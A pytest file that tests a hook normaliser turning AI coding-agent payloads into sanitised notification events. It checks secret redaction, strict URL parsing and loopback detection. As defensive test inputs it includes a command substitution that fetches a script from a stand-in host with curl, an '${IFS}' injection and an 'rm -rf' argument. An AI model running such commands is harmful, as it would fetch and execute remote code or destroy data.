"""The normaliser: golden events per CLI and event, and nothing from a payload but whitelisted labels."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from live2d_notify import hooks
from tests.payloads import EXPECTED, SECRETS, Payload, assert_no_secrets, iter_payloads

ROOT = Path(__file__).resolve().parent.parent
HOOKS_PY = ROOT / "src" / "live2d_notify" / "hooks.py"
CASES = list(iter_payloads())
FIELDS = ("type", "source", "tool", "title", "message", "session")


def normalised(case: Payload, *, detail: bool = False) -> dict[str, str | None] | None:
    """What the local hook computes: the payload plus the event word of the command line, if any."""
    payload = case.payload
    if case.args and isinstance(payload, dict):
        payload = {**payload, "hook_event_name": case.args[0]}
    return hooks.normalise(case.cli, payload, detail=detail)


def strings(value: object) -> list[str]:
    """Every string leaf of a JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (*strings(key), *strings(item))]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    return []


def test_every_fixture_has_a_golden_event_and_every_source_is_covered() -> None:
    assert {case.key for case in CASES} == set(EXPECTED)
    assert {case.cli for case in CASES} == hooks.SOURCES


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.key)
def test_payload_normalises_to_its_golden_event(case: Payload) -> None:
    assert normalised(case) == case.expected


@pytest.mark.parametrize("detail", [False, True], ids=["default", "detail"])
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.key)
def test_no_planted_secret_reaches_the_event(case: Payload, detail: bool) -> None:
    assert_no_secrets(json.dumps(normalised(case, detail=detail)))


@pytest.mark.parametrize("case", [c for c in CASES if c.cli != "aider"], ids=lambda case: case.key)
def test_every_fixture_carries_planted_secrets(case: Payload) -> None:
    assert any(secret in case.raw.decode("utf-8-sig") for secret in SECRETS)


@pytest.mark.parametrize("case", [c for c in CASES if c.cli != "generic"], ids=lambda case: case.key)
def test_no_payload_text_reaches_the_event(case: Payload) -> None:
    """Titles and messages are our phrases: no string of the payload (but labels) shows up in the event."""
    event = normalised(case)
    if event is None:
        return
    out = json.dumps(event)
    copied = [s for s in strings(case.payload) if len(s) >= 12 and s in out]
    assert not copied


@pytest.mark.parametrize("case", [c for c in CASES if c.expected is not None], ids=lambda case: case.key)
def test_event_fits_the_api(case: Payload) -> None:
    event = normalised(case, detail=True)
    assert event is not None
    assert tuple(event) == FIELDS
    assert event["type"] in hooks.TYPES
    assert event["source"] == case.cli
    for field, limit in hooks.LIMITS.items():
        value = event[field]
        assert value is None or (isinstance(value, str) and len(value) <= limit)
    if case.cli != "generic":
        assert event["tool"] is None or event["tool"] in hooks.CATEGORIES
        session = event["session"]
        assert session is None or (len(session) == 12 and set(session) <= set("0123456789abcdef"))


def case(key: str) -> Payload:
    return next(c for c in CASES if c.key == key)


def test_the_same_permission_prompt_arrives_twice_with_one_session_hash() -> None:
    """PermissionRequest and Notification(permission_prompt): both waiting, one session hash."""
    request = normalised(case("claude/PermissionRequest-Bash"))
    notification = normalised(case("claude/Notification-permission_prompt"))
    assert request and notification
    assert request["type"] == notification["type"] == "waiting"
    assert request["title"] == notification["title"]
    assert request["session"] == notification["session"] is not None


@pytest.mark.parametrize(
    ("key", "title"),
    [
        ("claude/PreToolUse-Bash", "Running a command: rm"),
        ("claude/PreToolUse-Edit", "Editing a file: billing.py"),
        ("claude/PreToolUse-Read", "Reading a file: id_ed25519"),
        ("claude/PostToolUse-Write", "File edited: keys.txt"),
        ("claude/PreToolUse-Grep", "Searching the code"),
        ("codex/PreToolUse-Bash", "Running a command: rm"),
        ("codex/PreToolUse-apply_patch", "Editing a file"),
        ("gemini/BeforeTool-run_shell_command", "Running a command: rm"),
        ("gemini/AfterTool-ok", "File read: credentials"),
        ("cursor/beforeShellExecution", "Running a command: rm"),
        ("cursor/afterFileEdit", "File edited: billing.py"),
        ("copilot/preToolUse-edit", "Editing a file: billing.py"),
        ("copilot/postToolUseFailure", "Command failed: psql"),
        ("opencode/tool.execute.before", "Running a command"),
    ],
)
def test_opt_in_detail_adds_a_program_or_base_name_only(key: str, title: str) -> None:
    assert (normalised(case(key), detail=True) or {})["title"] == title
    assert (normalised(case(key)) or {})["title"] == title.partition(":")[0]


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("FOO=1 BAR=2 /usr/bin/pytest -x tests", "pytest"),
        ("python3.11 -m pip install x", "python3.11"),
        ("./scripts/run-all.sh --fast", "run-all.sh"),
        ("'git' push origin main", "git"),
        ("$(curl https://evil.example/x.sh)", None),
        ("echo${IFS}hi", None),
        ("", None),
        ("   ", None),
        ("x" * 33, None),
        (None, None),
        (["ls"], None),
    ],
)
def test_program_is_a_bare_program_name_or_nothing(command: object, program: str | None) -> None:
    assert hooks._program(command) == program


@pytest.mark.parametrize(
    ("name", "category"),
    [
        ("Bash", "command"),
        ("run_shell_command", "command"),
        ("apply_patch", "edit"),
        ("MultiEdit", "edit"),
        ("read_many_files", "read"),
        ("Glob", "search"),
        ("google_web_search", "web"),
        ("Task", "agent"),
        ("ExitPlanMode", "plan"),
        ("TodoWrite", "todo"),
        ("mcp__acme-internal-db__run_query", "mcp"),
        ("MCP:acme-internal-db", "mcp"),
        ("SomethingNew", "other"),
        ("", "other"),
        (None, "other"),
        ({"name": "Bash"}, "other"),
    ],
)
def test_tool_names_reduce_to_a_category(name: object, category: str) -> None:
    assert hooks.tool_category(name) == category


@pytest.mark.parametrize(
    ("cli", "tool"), [("claude", "AskUserQuestion"), ("copilot", "ask_user"), ("codex", "request_user_input")]
)
def test_a_question_tool_means_the_agent_waits_for_you(cli: str, tool: str) -> None:
    event = hooks.normalise(cli, {"hook_event_name": "PreToolUse", "tool_name": tool, "session_id": "s"})
    assert event is not None and (event["type"], event["title"]) == ("waiting", hooks.QUESTION)


def test_session_ids_are_hashed_the_same_way_everywhere() -> None:
    raw = "8d0e6a3c-1f2b-4c5d-9e8f-a1b2c3d4e5f6"
    assert hooks.hash_session(raw) == hashlib.sha256(raw.encode()).hexdigest()[:12]
    assert hooks.hash_session(12345) == hashlib.sha256(b"12345").hexdigest()[:12]
    assert hooks.hash_session("\ud800lone") is not None
    for bad in ("", None, True, 1.5, {"id": raw}, [raw]):
        assert hooks.hash_session(bad) is None


def test_unknown_source_raises() -> None:
    with pytest.raises(hooks.UnknownSource):
        hooks.normalise("windsurf", {})
    with pytest.raises(hooks.UnknownSource):
        hooks.normalise(None, {})  # type: ignore[arg-type]


def nested(depth: int) -> object:
    value: object = {}
    for _ in range(depth):
        value = {"hook_event_name": "PreToolUse", "tool_input": value}
    return value


HOSTILE: list[object] = [
    None,
    "",
    "PreToolUse",
    42,
    [],
    [{"hook_event_name": "Stop"}],
    {},
    {"hook_event_name": 5, "type": 5},
    {"hook_event_name": ["Stop"], "type": {"x": 1}, "properties": "x"},
    {"hook_event_name": "PreToolUse", "tool_name": {"x": 1}, "tool_input": "{not json"},
    {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": ["rm", "-rf"]},
    {"hook_event_name": "Notification", "notification_type": None},
    {"hook_event_name": "StopFailure", "error": {"type": "rate_limit"}},
    {"hook_event_name": "AfterTool", "tool_response": "error"},
    {"hook_event_name": "stop", "status": 3},
    {"type": "session.error", "properties": {"error": "boom"}},
    {"type": "permission.asked", "properties": None},
    {"type": "agent-turn-complete", "input-messages": "not a list", "thread-id": {"id": 1}},
    {"session_id": "\ud800", "hook_event_name": "Stop", "sessionId": 1.5, "conversation_id": []},
    {"toolName": 7, "toolArgs": '{"command": 7}', "error": 5},
    nested(5000),
]


@pytest.mark.parametrize("source", sorted(hooks.SOURCES))
@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_payloads_never_raise(source: str, payload: object) -> None:
    for detail in (False, True):
        event = hooks.normalise(source, payload, detail=detail)
        assert event is None or (tuple(event) == FIELDS and event["type"] in hooks.TYPES) or source == "generic"


def test_copilot_events_are_inferred_when_the_command_line_gives_none() -> None:
    """What POST /api/hooks/copilot sees: camelCase payloads carry no event name."""
    for c in iter_payloads("copilot"):
        if not c.args:
            continue
        inferred = hooks.normalise("copilot", c.payload)
        if c.args[0] == "permissionRequest":  # same fields as preToolUse: only the command line tells them apart
            assert inferred and inferred["type"] == "progress"
        else:
            assert inferred == c.expected, c.key


def test_copilot_vs_code_format_uses_its_pascal_case_names() -> None:
    payload = {"hook_event_name": "Stop", "session_id": "s", "stop_reason": "end_turn"}
    assert (hooks.normalise("copilot", payload) or {})["title"] == "Done"


def test_generic_passes_only_whitelisted_string_fields() -> None:
    event = hooks.normalise("generic", {"type": "info", "title": 5, "message": "hi", "cwd": "/home/alice", "x": 1})
    assert event == {
        "type": "info",
        "source": "generic",
        "tool": None,
        "title": None,
        "message": "hi",
        "session": None,
    }


def test_title_with_detail_is_cut_to_the_limit() -> None:
    long_name = "a" * 200 + ".py"
    event = hooks.normalise(
        "claude",
        {
            "hook_event_name": "PreToolUse",
            "tool_name": "Edit",
            "tool_input": {"file_path": f"/x/{long_name}"},
        },
        detail=True,
    )
    assert event and event["title"] and len(event["title"]) <= hooks.LIMITS["title"]


def run(code: str, *args: str) -> str:
    return subprocess.run(
        [sys.executable, "-I", "-S", "-c", code, *args], capture_output=True, text=True, check=True, cwd=ROOT
    ).stdout


def test_module_needs_only_the_standard_library_and_loads_nothing_on_import() -> None:
    before = "import sys; base = set(sys.modules); "
    after = "print(sorted(m for m in set(sys.modules) - base if not m.startswith('live2d_notify')))"
    code = before + "sys.path.insert(0, 'src'); import live2d_notify.hooks; " + after
    assert run(code).strip() == "[]"


def imported(*args: str) -> set[str]:
    """Modules a `python -I -S -X importtime …` run imported (the child it may spawn is not traced)."""
    done = subprocess.run(
        [sys.executable, "-I", "-S", "-X", "importtime", *args],
        input=b"{}",
        capture_output=True,
        env={"HOME": "/nonexistent"},
        check=True,
    )
    lines = done.stderr.decode().splitlines()
    return {line.rpartition("|")[2].strip() for line in lines if line.startswith("import time:")} - {"package"}


def test_the_hook_parent_imports_nothing_beyond_a_bare_interpreter() -> None:
    """`python -I -S hook.py claude`: not even `os`; the C helpers for JSON, hashing and sockets load in its fork."""
    assert imported(str(HOOKS_PY), "claude") == imported("-c", "pass")


# Runs the hook's sender in this process (fork() returns 0 here), then lists the modules it loaded.
SENDER_IMPORTS = """
import posix, sys
sys.path.insert(0, "src")
from live2d_notify import hooks
loaded = set(sys.modules)
class Exited(Exception):
    pass
def exit_(code):
    raise Exited
posix.fork, posix._exit = (lambda: 0), exit_
hooks.main(["claude"])
with open(sys.argv[1], "w") as out:
    out.write(" ".join(sorted(set(sys.modules) - loaded)))
"""


def test_the_sender_loads_only_the_light_c_helpers(tmp_path: Path) -> None:
    """The fork that reads, normalises and sends imports `_json`, `_sha256` and `_socket`: not os, json or socket."""
    listing = tmp_path / "modules.txt"
    env = {"HOME": str(tmp_path), hooks.ENV_URL: "http://127.0.0.1:9", hooks.ENV_TOKEN: "l2n_hook_x"}
    stop = b'{"hook_event_name": "Stop", "session_id": "s-1"}'
    code = [sys.executable, "-I", "-S", "-c", SENDER_IMPORTS, str(listing)]
    subprocess.run(code, input=stop, capture_output=True, env=env, check=True, cwd=ROOT, timeout=30)
    assert listing.read_text().split() == ["_json", "_sha256", "_socket"]


def test_docs_name_every_cli_and_every_phrase() -> None:
    docs = (ROOT / "docs" / "hooks.md").read_text(encoding="utf-8")
    for source in hooks.SOURCES - {"generic"}:
        assert f"`live2d-notify install {source}`" in docs
    titles = {event["title"] for event in EXPECTED.values() if event and event["source"] != "generic"}
    missing = sorted(title for title in titles if title and f"{title}" not in docs)
    assert not missing


@pytest.mark.parametrize(
    "text",
    ['{"a": [1, 2.5, "\\u00e9\\n", null, true, false], "b": {}}', "  [1]\n", "1e400", '"x"', "{}", "-0"],
)
def test_the_senders_light_json_decoder_agrees_with_json(text: str) -> None:
    assert hooks.loads(text) == json.loads(text)


@pytest.mark.parametrize("text", ["", "{", "[1,]", "{} {}", '{"a": "\x01"}', "[" * 100_000, "nul"])
def test_the_senders_light_json_decoder_refuses_what_json_refuses(text: str) -> None:
    assert hooks.loads(text) is None


def test_the_senders_light_json_encoder_round_trips() -> None:
    event = {
        "type": "info",
        "source": "generic",
        "tool": None,
        "title": 'é "quoted"\n\x00\ud7ff',
        "session": "s",
    }
    assert json.loads(hooks._dumps(event)) == {key: value for key, value in event.items() if value is not None}


@pytest.mark.parametrize(
    ("url", "parts"),
    [
        ("http://127.0.0.1:8000", ("http", "127.0.0.1", 8000, "")),
        ("https://live2d.example/base/?q#f", ("https", "live2d.example", 443, "/base")),
        ("HTTP://[::1]:9/", ("http", "::1", 9, "")),
        ("ftp://x", None),
        ("localhost:8000", None),
        ("http://user:pw@host", None),
        ("http://host:99999", None),
        ("http://host:8x", None),
        ("http://ho st", None),
        ("http://host/a\r\nX: y", None),
    ],
)
def test_server_urls_are_parsed_strictly(url: str, parts: tuple[str, str, int, str] | None) -> None:
    assert hooks.split_url(url) == parts


def test_a_gemini_session_that_ends_mid_turn_is_reported_failed(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from live2d_notify.hooks import normalise, track_turn

    def step(name: str) -> dict[str, str | None] | None:
        return track_turn("gemini", normalise("gemini", {"hook_event_name": name, "session_id": "s-1"}), str(tmp_path))

    assert step("BeforeAgent")["type"] == "start"  # type: ignore[index]
    ended = step("SessionEnd")
    assert ended is not None and ended["type"] == "error" and ended["title"] == "Failed"
    assert step("SessionEnd")["type"] == "info"  # type: ignore[index]  # Gemini's repeated SessionEnd
    step("BeforeAgent")
    assert step("AfterAgent")["type"] == "success"  # type: ignore[index]
    assert step("SessionEnd")["type"] == "info"  # type: ignore[index]  # a finished turn ends quietly
    assert list(tmp_path.iterdir()) == []
    claude = normalise("claude", {"hook_event_name": "SessionEnd", "session_id": "s-1"})
    assert track_turn("claude", claude, str(tmp_path)) == claude  # only Gemini needs it


# -- where the hook sends: one source for URL and token, no token in clear off this machine -------------------
@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("localhost", True),
        ("LocalHost", True),
        ("127.0.0.1", True),
        ("127.200.3.4", True),
        ("::1", True),
        ("0:0:0:0:0:0:0:1", True),
        ("127.1", False),  # shorthand a resolver would take: not as written
        ("127.0.0.1.nip.io", False),
        ("localhost.example", False),
        ("::ffff:127.0.0.1", False),
        ("192.168.1.5", False),
        ("10.0.0.1", False),
        ("::2", False),
        ("live2d.example", False),
    ],
)
def test_loopback_is_localhost_127_8_or_ipv6_one(host: str, expected: bool) -> None:
    assert hooks.loopback(host) is expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://192.168.1.5:8000", True),
        ("HTTP://live2d.example", True),
        ("http://127.0.0.1:8000", False),
        ("http://[::1]:8000", False),
        ("https://192.168.1.5", False),
        ("ftp://192.168.1.5", False),
    ],
)
def test_only_plain_http_off_this_machine_is_insecure(url: str, expected: bool) -> None:
    assert hooks.insecure(url) is expected


ENV_PAIR = ("https://env.example", "l2n_hook_from_env")
FILE_PAIR = ("https://file.example", "l2n_hook_from_file")


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """Write the hook's config file (in a temporary XDG_CONFIG_HOME) from keyword arguments."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    for name in (hooks.ENV_URL, hooks.ENV_TOKEN, hooks.ENV_DETAIL):
        monkeypatch.delenv(name, raising=False)

    def write(**stored: object) -> None:
        path = Path(hooks.config_path())
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(stored))

    return write


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({hooks.ENV_URL: ENV_PAIR[0], hooks.ENV_TOKEN: ENV_PAIR[1]}, ENV_PAIR),
        ({hooks.ENV_URL: ENV_PAIR[0]}, FILE_PAIR),  # a project's .env sets the URL: the file's pair, not a mix
        ({hooks.ENV_TOKEN: ENV_PAIR[1]}, FILE_PAIR),
        ({hooks.ENV_URL: ENV_PAIR[0], hooks.ENV_TOKEN: ""}, FILE_PAIR),
        ({}, FILE_PAIR),
    ],
    ids=["both-in-env", "url-only-in-env", "token-only-in-env", "empty-token-in-env", "nothing-in-env"],
)
def test_url_and_token_come_from_one_source(
    env: dict[str, str],
    expected: tuple[str, str],
    config: Callable[..., None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config(url=FILE_PAIR[0], token=FILE_PAIR[1])
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    assert hooks.read_settings()[:2] == expected


@pytest.mark.parametrize("opted_in", [False, True])
@pytest.mark.parametrize("source", ["file", "env"])
def test_plain_http_to_another_machine_needs_the_config_files_opt_in(
    source: str,
    opted_in: bool,
    config: Callable[..., None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    lan = "http://192.168.1.5:8000"
    stored: dict[str, object] = {"insecure_http": True} if opted_in else {}
    if source == "file":
        config(url=lan, token=FILE_PAIR[1], **stored)
    else:
        config(**stored)
        monkeypatch.setenv(hooks.ENV_URL, lan)
        monkeypatch.setenv(hooks.ENV_TOKEN, FILE_PAIR[1])
    expected = (lan, FILE_PAIR[1]) if opted_in else (None, None)
    assert hooks.read_settings()[:2] == expected
